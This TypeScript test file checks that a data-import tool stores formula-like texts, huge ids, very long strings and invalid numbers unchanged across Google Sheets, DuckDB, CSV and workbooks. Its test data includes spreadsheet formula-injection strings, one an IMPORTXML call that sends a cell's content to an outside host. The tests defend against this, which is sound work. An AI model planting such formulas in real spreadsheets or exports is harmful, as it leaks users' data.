import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import exceljs from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDuckDB } from '../../../environments/node/storages/DuckDBDatabase';
import { ANNA, call, cellsOf } from '../../apps-script/harness';
import { filesIn, scratch, sheetbound } from '../../cli/harness';
import {
  asWords,
  DAYS,
  fileWith,
  HOLIDAY_VALUES,
  holidays,
  importNow,
  rates,
  reopened,
  startHostile,
  TAB,
  type Hostile,
} from './hostile';

/** Each is both a key and a value. */
const TEXTS = [
  '=1+1',
  '=IMPORTXML("http://example.com/?"&A1,"//a")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  "'quoted",
  '\r=1',
  '👩‍👩‍👧 family 😀',
  'before\0after',
  '2026-01-31',
  '007',
  '1e400',
  'NaN',
  'null',
];
const IDS = ['9007199254740993', '-9007199254740993', '12345678901234567890123'];
const LONG = 'x'.repeat(49_999) + '😀y';

const ROWS = [
  ...TEXTS.map(text => ({ id: JSON.stringify(text), name: text })),
  ...IDS.map(id => ({ id, name: `id ${id}` })),
];
/** What is to be seen: ids beyond 2^53 digit for digit. */
const SEEN = [...TEXTS.map(text => [text, text]), ...IDS.map(id => [id, `id ${id}`])];

const GOOD_RATES = rates({ USDCAD: '"1.36"', EURCAD: '1.5' });
const NUMBERS: [title: string, rate: string, text: RegExp][] = [
  ['the number 1e400', '1e400', /field rate holds Infinity, which is not a finite number/],
  ['the text 1e400', '"1e400"', /field rate holds "1e400", which is not a finite number/],
  ['the text NaN', '"NaN"', /field rate holds "NaN", which is not a finite number/],
  ['NaN in place of JSON', 'NaN', /The answer is not JSON/],
];

let hostile: Hostile;
beforeAll(async () => {
  const bad = NUMBERS.map(([, rate], index) => [`rate-${index}`, rates({ USDCAD: '2', EURCAD: rate })]);
  hostile = await startHostile({
    texts: holidays(ROWS),
    long: holidays([{ id: '"a"', name: LONG }]),
    'long-key': holidays([
      { id: '"a"', name: 'beside' },
      { id: JSON.stringify('k'.repeat(50_001)), name: 'b' },
    ]),
    rates: GOOD_RATES,
    ...(Object.fromEntries(bad) as Record<string, string>),
  });
});
afterAll(() => hostile.close());

const WORDS = ['run', 'OpenHolidays', ...asWords(HOLIDAY_VALUES)];

function inDuckDB(path: string, sql: string): unknown[][] {
  const database = openDuckDB(path);
  try {
    return database.all(sql).map(row => Object.values(row));
  } finally {
    database.close();
  }
}

function inCsv(path: string): string[][] {
  const { data } = Papa.parse<string[]>(readFileSync(path, 'utf8'), { delimiter: ',', newline: '\r\n' });
  const [header = [], ...rows] = data.slice(0, -1);
  return rows.map(row => [row[header.indexOf('id')] ?? '', row[header.indexOf('name')] ?? '']);
}

async function inWorkbook(path: string): Promise<unknown[][]> {
  const book = new exceljs.Workbook();
  await book.xlsx.readFile(path);
  const rows = book.getWorksheet(TAB)?.getRows(2, ROWS.length) ?? [];
  return rows.map(row => [row.getCell(1).value, row.getCell(4).value]);
}

/** What XML has no place for is left out of a workbook; the sheet that it is made from has it. */
const inXml = (text: string | undefined) => text?.replace(/\0/g, '').replace(/\r/g, '\n');

const sorted = (rows: readonly unknown[][]) => rows.map(row => JSON.stringify(row)).sort();

describe('texts that a spreadsheet takes for something else, and ids beyond 2^53', () => {
  it('are the same letters in a sheet of Google, and no formulas; known again by the next run', () => {
    const file = fileWith(hostile.as('texts'), {
      spreadsheet: { locale: 'de_DE', timeZone: 'America/Sao_Paulo' },
    });
    expect(importNow(file).message).toBe(`Done: ${ROWS.length} added, 0 updated.`);
    const { grid } = file.spreadsheet.sheet(TAB);
    const cells = SEEN.map((_, row) =>
      [1, 4].map(column => file.spreadsheet.sheet(TAB).value(row + 2, column)),
    );
    expect(sorted(cells)).toEqual(sorted(SEEN));
    for (let row = 2; row <= grid.lastRow(); row += 1)
      for (let column = 1; column <= 4; column += 1) expect(grid.formula(row, column)).toBeUndefined();
    const before = cellsOf(file, TAB);
    expect(importNow(file).message).toBe(`Done: 0 added, 0 updated, ${ROWS.length} unchanged.`);
    expect(cellsOf(file, TAB)).toEqual(before);
  });

  it.concurrent.each([
    [
      'DuckDB',
      'duckdb:data.duckdb',
      (folder: string) => inDuckDB(join(folder, 'data.duckdb'), `SELECT id, name FROM ${TAB}`),
    ],
    ['CSV', 'csv:out', (folder: string) => inCsv(join(folder, 'out', `${TAB}.csv`))],
    ['a workbook', 'xlsx:book.xlsx', (folder: string) => inWorkbook(join(folder, 'book.xlsx'))],
  ] as const)('are the same letters in %s; known again by the next run', async (_, place, read) => {
    const folder = scratch();
    const words = [...WORDS, `--storage=${place}`, ...hostile.words('texts')];
    const first = await sheetbound(folder, words);
    expect(first.stderr + first.stdout).toContain('OpenHolidays: done');
    const seen = SEEN.map(row => (place.startsWith('xlsx') ? row.map(inXml) : row));
    expect(sorted(await read(folder))).toEqual(sorted(seen));
    const again = await sheetbound(folder, words);
    expect(again.stdout).toMatch(new RegExp(`\\│ +${ROWS.length} │ +0 │ +0 │ +${ROWS.length} │`));
    expect(sorted(await read(folder))).toEqual(sorted(seen));
  });
});

describe('a text of more than 50,000 characters', () => {
  it('is cut to what a cell of Google takes, not within a character, and the run says so', () => {
    const file = fileWith(hostile.as('long'));
    const { status, message } = importNow(file);
    expect(status).toBe('DONE');
    expect(message).toContain('1 text in field name longer than 50000 characters was cut.');
    expect(file.spreadsheet.sheet(TAB).value(2, 4) === 'x'.repeat(49_999)).toBe(true);
    expect(importNow(file).message).toMatch(/^Done: 0 added, 0 updated/);
  });

  it('is refused as a key, because two of them could become one; nothing is written', () => {
    const file = fileWith(hostile.as('long-key'));
    const { status, message } = importNow(file);
    expect(status).toBe('ERROR');
    expect(message).toMatch(
      /publicHolidays: the key field id holds a text of 50001 characters; the destination takes 50000\. Nothing of this window was written/,
    );
    expect(file.spreadsheet.findSheet(TAB)?.grid.lastRow() ?? 0).toBeLessThan(2);
  });

  it.concurrent.each([
    [
      'DuckDB',
      'duckdb:data.duckdb',
      (folder: string) => inDuckDB(join(folder, 'data.duckdb'), `SELECT name FROM ${TAB}`)[0]?.[0],
    ],
    ['CSV', 'csv:out', (folder: string) => inCsv(join(folder, 'out', `${TAB}.csv`))[0]?.[1]],
  ] as const)('is whole in %s', async (_, place, read) => {
    const folder = scratch();
    const { code } = await sheetbound(folder, [...WORDS, `--storage=${place}`, ...hostile.words('long')]);
    expect(code).toBe(0);
    expect(read(folder) === LONG).toBe(true);
  });
});

describe('what is no number', () => {
  const values = { ...DAYS, MaxFetchRetries: 0 };
  const TABLE = 'bank_of_canada_exchange_rates';

  it.each(NUMBERS)(
    '%s fails the import by name, and the rates that are there stay, in Google',
    (title, _, text) => {
      const file = fileWith(hostile.as('rates'));
      call(file, ANNA, 'deleteImport', { importId: 'Holidays' });
      call(file, ANNA, 'saveImport', { source: 'BankOfCanada', name: 'Rates', values });
      expect(importNow(file).status).toBe('DONE');
      const before = cellsOf(file, TABLE);
      const bad = reopened(file, hostile.as(`rate-${NUMBERS.findIndex(([name]) => name === title)}`));
      const { status, message } = importNow(bad);
      expect(status).toBe('ERROR');
      expect(message).toMatch(text);
      expect(message).toContain('Nothing of this window was written');
      expect(cellsOf(bad, TABLE)).toEqual(before);
    },
  );

  it('fails the import by name, and the rates that are there stay, in a database', async () => {
    const folder = scratch();
    const words = ['run', 'BankOfCanada', '--storage=duckdb:rates.duckdb', ...asWords(values)];
    expect((await sheetbound(folder, [...words, ...hostile.words('rates')])).code).toBe(0);
    const database = filesIn(folder)['rates.duckdb'];
    const bad = await sheetbound(folder, [...words, ...hostile.words('rate-0')]);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(NUMBERS[0]?.[2] ?? '');
    expect(filesIn(folder)['rates.duckdb']).toEqual(database);
  });
});
